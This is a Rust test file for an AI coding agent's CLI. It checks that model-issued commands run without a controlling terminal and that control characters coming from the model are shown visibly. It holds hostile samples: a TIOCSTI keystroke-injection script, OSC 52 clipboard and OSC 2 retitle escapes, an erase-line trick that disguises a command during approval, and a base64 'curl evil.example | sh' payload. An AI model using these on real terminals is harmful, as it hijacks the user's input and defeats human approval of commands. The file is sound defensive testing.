//! What the model can do to the person's terminal: nothing. Shell commands (and plugin command
//! tools) run in a session of their own with no controlling terminal, so they can neither open
//! `/dev/tty` nor push keys into it (TIOCSTI); every string the model controls is printed with
//! its control characters made visible (`\u{1b}`), in every output mode.

use std::fs;
use std::process::Command;

use serde_json::{Value, json};

use crate::support::Repo;
use crate::support::mock::{MockServer, openai};
use crate::support::terminal::Terminal;

/// A command that says which terminal it has, then tries to open `/dev/tty` and push a line
/// into its input (the keys would reach nop's prompt, or the user's shell after nop exits).
/// The pushed text is spelled in pieces so that the command's own text never shows it.
const PUSH_KEYS: &str = r#"echo "tty=[$(ps -o tty= -p $$ | tr -d ' ')]"; python3 -c '
import os, fcntl, termios
try:
    fd = os.open("/dev/tty", os.O_RDWR)
except OSError as e:
    print("open /dev/tty:", e.strerror)
else:
    try:
        for b in b"INJ" + b"ECTED\r":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([b]))
        print("TIOCSTI pushed")
    except OSError as e:
        print("TIOCSTI:", e.strerror)
'"#;

/// Runs [`PUSH_KEYS`] as the model's shell call in the interactive session on a real terminal
/// (tmux: nop has a controlling terminal there), with `global` options before `run`.
fn commands_cannot_reach_the_terminal(tag: &str, global: &str) {
    let repo = Repo::new();
    let server = MockServer::start(vec![
        openai::reply_tool_calls(&[("t1", "shell", json!({ "command": PUSH_KEYS }))]),
        openai::reply_text("tried the terminal"),
    ]);
    let t = Terminal::start(
        &repo,
        &server,
        tag,
        &format!("{global} run"),
        &[],
        "/help for commands",
    );
    t.type_line("go");
    let screen = t.wait_for_prompt_after("tried the terminal");
    t.type_line("/exit");
    let after = t.wait_for("saved; continue with");
    let result = server.result_of("t1");
    assert!(result.contains("tty=[?]"), "{result}");
    // No terminal to open (ENXIO); under the sandbox, Landlock refuses the write access first.
    assert!(
        result.contains("open /dev/tty: No such device or address")
            || result.contains("open /dev/tty: Permission denied"),
        "{result}"
    );
    assert!(!result.contains("TIOCSTI"), "{result}");
    for text in [&screen, &after] {
        assert!(!text.contains("INJECTED"), "{text}");
    }
    for r in &server.requests() {
        assert!(
            !r.user_messages().iter().any(|m| m.contains("INJECTED")),
            "{:?}",
            r.user_messages()
        );
    }
}

#[test]
fn a_shell_command_has_no_terminal_under_namespaces() {
    commands_cannot_reach_the_terminal("notty-ns", "");
}

#[test]
fn a_shell_command_has_no_terminal_under_landlock_alone() {
    commands_cannot_reach_the_terminal("notty-ll", "--set shell.namespaces=off");
}

#[test]
fn a_shell_command_has_no_terminal_with_the_sandbox_off() {
    commands_cannot_reach_the_terminal("notty-off", "--set sandbox=off");
}

#[test]
fn a_plugin_command_tool_runs_in_a_session_of_its_own() {
    let repo = Repo::new();
    let dir = repo.path().join(".nop/plugins/where");
    fs::create_dir_all(&dir).expect("mkdir");
    fs::write(
        dir.join("config.yml"),
        "description: where am I\ntools:\n  - name: session\n    description: Says its session\n    command: ./session.sh\n    input_schema: {type: object}\n",
    )
    .expect("write");
    fs::write(
        dir.join("session.sh"),
        "#!/usr/bin/env bash\ncat > /dev/null\npython3 -c 'import os; print(\"sid\", os.getsid(0), \"pgid\", os.getpgid(0))'\n",
    )
    .expect("write");
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(dir.join("session.sh"), fs::Permissions::from_mode(0o755)).expect("chmod");
    repo.trust();
    let server = MockServer::start(vec![
        openai::reply_tool_calls(&[("p1", "where__session", json!({}))]),
        openai::reply_text("done"),
    ]);
    // Landlock alone: the helper, the leader of the command's session, is visible to it.
    repo.model_ok(
        &server,
        &["--set", "shell.namespaces=off", "run", "where are you"],
    );
    let result = server.result_of("p1");
    let ids: Vec<i64> = result
        .split_whitespace()
        .skip_while(|w| *w != "sid")
        .filter_map(|w| w.parse().ok())
        .collect();
    let [sid, pgid] = ids[..] else {
        panic!("no sid and pgid in {result}");
    };
    let ours = i64::from(nix::unistd::getsid(None).expect("getsid").as_raw());
    assert_ne!(sid, ours, "the command shares the test's session: {result}");
    assert_eq!(sid, pgid, "{result}");
}

/// A command whose own text and output carry OSC 52 (set the clipboard), OSC 2 (retitle the
/// window), a C1 CSI and a `\r` + erase-line that would hide what runs behind
/// `cargo test --quiet`.
const HOSTILE_COMMAND: &str = "echo \u{1b}]2;pwned\u{7}; printf 'x\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\007y\\n'; echo 'evil-part' #\r\u{1b}[2Kcargo test --quiet";

/// Model text with the same tricks, C1 and DEL included.
const HOSTILE_TEXT: &str = "all good \u{1b}]52;c;Y3VybA==\u{7} here\u{1b}]2;pwned\u{7}\r\u{1b}[2Kfine \u{9b}31m red\u{7f}\n";

/// The bytes no hostile string may bring to nop's output: ESC, BEL, CR and the C1 CSI.
fn raw_controls(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes);
    text.char_indices()
        .filter(|(_, c)| matches!(c, '\u{1b}' | '\u{7}' | '\r' | '\u{9b}' | '\u{7f}'))
        .map(|(i, c)| {
            let from = text[..i].char_indices().rev().nth(30).map_or(0, |(j, _)| j);
            format!("{:?} after {:?}", c, &text[from..i])
        })
        .collect()
}

fn hostile_script() -> Vec<crate::support::mock::MockResponse> {
    vec![
        openai::reply_tool_calls(&[("s1", "shell", json!({ "command": HOSTILE_COMMAND }))]),
        openai::reply_tool_calls(&[(
            "p1",
            "update-plan",
            json!({"tasks": [{"id": "1", "title": "Plan \u{1b}]2;pwned\u{7}step", "status": "in_progress"}]}),
        )]),
        openai::reply_tool_calls(&[(
            "w1",
            "write-file",
            json!({"path": "notes/\u{1b}[8mhidden.txt", "content": "line \u{1b}]52;c;Y3VybA==\u{7}\n"}),
        )]),
        openai::reply_text(HOSTILE_TEXT),
    ]
}

#[test]
fn control_characters_from_the_model_are_shown_visibly_in_text_mode() {
    let repo = Repo::new();
    let server = MockServer::start(hostile_script());
    let out = repo.model_ok(&server, &["run", "--output-format", "text", "do it"]);
    let both = [out.stdout.as_slice(), out.stderr.as_slice()].concat();
    let shown = String::from_utf8_lossy(&both);
    assert_eq!(raw_controls(&both), Vec::<String>::new(), "{shown}");
    // The command line in full, its hidden tail included.
    assert!(
        shown.contains("echo \\u{1b}]2;pwned\\u{7};"),
        "the command's escapes are not visible: {shown}"
    );
    // The tool line is cut at 120 characters, but what is shown is what was sent.
    assert!(shown.contains("#\\u{d}\\u{1b}[2K"), "{shown}");
    assert!(
        shown.contains("all good \\u{1b}]52;c;Y3VybA==\\u{7} here"),
        "{shown}"
    );
    assert!(shown.contains("fine \\u{9b}31m red\\u{7f}"), "{shown}");
}

#[test]
fn json_outputs_escape_the_models_control_characters() {
    for format in ["json", "stream-json"] {
        let repo = Repo::new();
        let server = MockServer::start(hostile_script());
        let out = repo.model_ok(&server, &["run", "--output-format", format, "do it"]);
        let shown = String::from_utf8_lossy(&out.stdout).into_owned();
        assert_eq!(
            raw_controls(&out.stdout),
            Vec::<String>::new(),
            "{format}: {shown}"
        );
        // Escaped, not lost: a JSON reader gets the model's text back exactly.
        let last: Value = shown
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .next_back()
            .expect("a JSON line");
        let text = last["final_message"]
            .as_str()
            .or_else(|| last["result"]["final_message"].as_str())
            .unwrap_or_default();
        assert_eq!(
            text.trim_end(),
            HOSTILE_TEXT.trim_end(),
            "{format}: {shown}"
        );
    }
}

/// The screen with the lines the 120-column terminal wrapped joined again (and every other
/// line too: for `contains` only).
fn unwrapped(screen: &str) -> String {
    screen.replace('\n', "")
}

/// The window title tmux keeps for the pane (OSC 2 sets it).
fn pane_title(t: &Terminal) -> String {
    let out = Command::new("tmux")
        .args(["display-message", "-p", "-t", &t.0, "#{pane_title}"])
        .output()
        .expect("tmux display-message");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn the_approval_question_and_the_transcript_show_the_models_escapes_visibly() {
    let repo = Repo::new();
    let server = MockServer::start(hostile_script());
    let t = Terminal::start(
        &repo,
        &server,
        "hostile",
        "run --approval always",
        &[],
        "/help for commands",
    );
    let title = pane_title(&t);
    t.type_line("do it");
    let screen = unwrapped(&t.wait_for("allow?"));
    // The whole command, its hidden tail visible: nothing was erased from the question.
    assert!(
        screen.contains("echo \\u{1b}]2;pwned\\u{7};"),
        "the question hides the command: {screen}"
    );
    assert!(
        screen.contains("echo 'evil-part' #\\u{d}\\u{1b}[2Kcargo test --quiet"),
        "{screen}"
    );
    t.press(&["y"]);
    // The write of the file is asked about next.
    let screen = t.wait_for_after("✓ yes", "allow?");
    t.press(&["y"]);
    let screen = unwrapped(&[screen, t.wait_for_prompt_after("red")].join("\n"));
    // The output of the command, the plan title, the file name and the answer: visible.
    assert!(screen.contains("x\\u{1b}]52;c;"), "{screen}");
    assert!(
        screen.contains("Plan \\u{1b}]2;pwned\\u{7}step"),
        "{screen}"
    );
    assert!(screen.contains("notes/\\u{1b}[8mhidden.txt"), "{screen}");
    assert!(
        screen.contains("all good \\u{1b}]52;c;Y3VybA==\\u{7} here"),
        "{screen}"
    );
    assert!(screen.contains("fine \\u{9b}31m red\\u{7f}"), "{screen}");
    assert_eq!(pane_title(&t), title, "the model retitled the window");
    t.type_line("/exit");
    t.wait_for("saved; continue with");
}
